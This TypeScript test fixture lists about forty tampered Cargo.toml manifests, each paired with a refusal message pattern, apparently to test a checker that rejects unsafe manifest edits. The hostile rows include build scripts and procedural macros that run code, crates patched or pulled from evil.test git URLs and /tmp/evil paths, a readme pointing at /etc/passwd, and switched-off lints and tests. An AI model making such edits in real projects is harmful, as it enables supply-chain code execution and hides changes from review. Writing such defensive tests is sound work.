import type { Attack } from '../attack.ts';

/** What a reply makes of `crates/app/Cargo.toml`. */
export interface ManifestAttack extends Attack {
  readonly after: string;
  readonly refusal: RegExp;
}

/** The manifest before the attack. */
export const MANIFEST = `[package]
name = "app"
version = "0.1.0"
edition = "2021"

[features]
default = ["std"]
std = []

[dependencies]
serde = "1"

[[test]]
name = "whole"

[workspace]
members = ["inner"]
`;

const CODE = /run code/;
const CHECKED = /how code is checked/;
const FOUND = /tests must stay found/;
const REPLACES = /replaces crates/;
const SOURCE = /is not allowed|another source/;
const OUT = /leads out of the repository/;

const add = (text: string) => `${MANIFEST}${text}\n`;
const inPackage = (line: string) => MANIFEST.replace('edition', `${line}\nedition`);
const depend = (line: string) => MANIFEST.replace('serde = "1"', `serde = "1"\n${line}`);

type Row = readonly [name: string, after: string, refusal: RegExp];

const ROWS: readonly Row[] = [
  ['a build script of another name', inPackage('build = "src/gen.rs"'), CODE],
  [
    'a build script under the old table name',
    MANIFEST.replace('[package]', '[project]\nbuild = "src/gen.rs"'),
    /old name|run code/,
  ],
  ['a procedural macro', add('[lib]\nproc-macro = true'), CODE],
  ['a procedural macro by its old key', add('[lib]\nproc_macro = true'), CODE],
  ['a procedural macro by crate type', add('[lib]\ncrate-type = ["proc-macro"]'), CODE],
  ['a procedural macro by the old key of the crate type', add('[lib]\ncrate_type = ["proc-macro"]'), CODE],
  ['lints switched off', add('[lints.rust]\nwarnings = "allow"'), CHECKED],
  ['lints of the workspace switched off', add('[workspace.lints.clippy]\nall = "allow"'), CHECKED],
  ['lints inherited', add('[lints]\nworkspace = true'), CHECKED],
  ['a profile without checks', add('[profile.dev]\noverflow-checks = false'), CHECKED],
  ['flags for the compiler by a profile', add('[profile.dev]\nrustflags = ["-Clinker=/tmp/evil"]'), CHECKED],
  ['a profile of the build scripts', add('[profile.dev.build-override]\nopt-level = 3'), CHECKED],
  ['unstable features of cargo', `cargo-features = ["profile-rustflags"]\n${MANIFEST}`, /unstable/],
  ['a patched crate', add('[patch.crates-io]\nserde = { path = "../../evil" }'), REPLACES],
  ['a replaced crate', add('[replace]\n"serde:1.0.0" = { git = "https://evil.test/x" }'), REPLACES],
  ['a new crate', depend('evil = "1"'), SOURCE],
  ['a crate from git', depend('evil = { git = "https://evil.test/x" }'), SOURCE],
  ['a crate from a path outside', depend('evil = { path = "../../../evil" }'), SOURCE],
  ['a crate from an absolute path', depend('evil = { path = "/tmp/evil" }'), SOURCE],
  ['a crate from another registry', depend('evil = { version = "1", registry = "mine" }'), SOURCE],
  [
    'a known name for another crate',
    MANIFEST.replace('serde = "1"', 'serde = { package = "evil", version = "1" }'),
    SOURCE,
  ],
  [
    'a known crate from git',
    MANIFEST.replace('serde = "1"', 'serde = { git = "https://evil.test/serde" }'),
    SOURCE,
  ],
  ['a crate for build scripts', add('[build-dependencies]\ncc = "1"'), SOURCE],
  ['a crate by the old key', add('[dev_dependencies]\nevil = "1"'), SOURCE],
  ['a crate of one platform', add("[target.'cfg(all())'.dependencies]\nevil = '1'"), SOURCE],
  ['a library from outside', add('[lib]\npath = "../../../evil.rs"'), OUT],
  ['a program from an absolute path', add('[[bin]]\nname = "x"\npath = "/tmp/evil.rs"'), OUT],
  ['a member from outside', MANIFEST.replace('"inner"', '"inner", "../../../evil"'), OUT],
  ['a readme from outside', inPackage('readme = "/etc/passwd"'), OUT],
  ['a crate that leaves its workspace', inPackage('workspace = "../../../evil"'), /stay in this workspace/],
  ['a member that leaves', MANIFEST.replace('"inner"', ''), /may not leave/],
  ['an excluded member', add('exclude = ["inner"]'), /must stay checked/],
  ['tests no longer found', inPackage('autotests = false'), FOUND],
  ['a library without its tests', add('[lib]\ntest = false'), FOUND],
  [
    'a test without its harness',
    MANIFEST.replace('name = "whole"', 'name = "whole"\nharness = false'),
    FOUND,
  ],
  [
    'a test behind a feature',
    MANIFEST.replace('name = "whole"', 'name = "whole"\nrequired-features = ["never"]'),
    FOUND,
  ],
  ['a test target that goes', MANIFEST.replace('[[test]]\nname = "whole"\n', ''), /may not go/],
  ['settings for tools', inPackage('metadata.cargo-machete.ignored = ["x"]'), /tools read it/],
  ['a manifest that is no TOML', `${MANIFEST}[[[`, /not be valid TOML/],
];

export const MANIFEST_ATTACKS: readonly ManifestAttack[] = ROWS.map(([name, after, refusal]) => ({
  kind: 'manifest',
  name: `a manifest with ${name}`,
  after,
  refusal,
}));
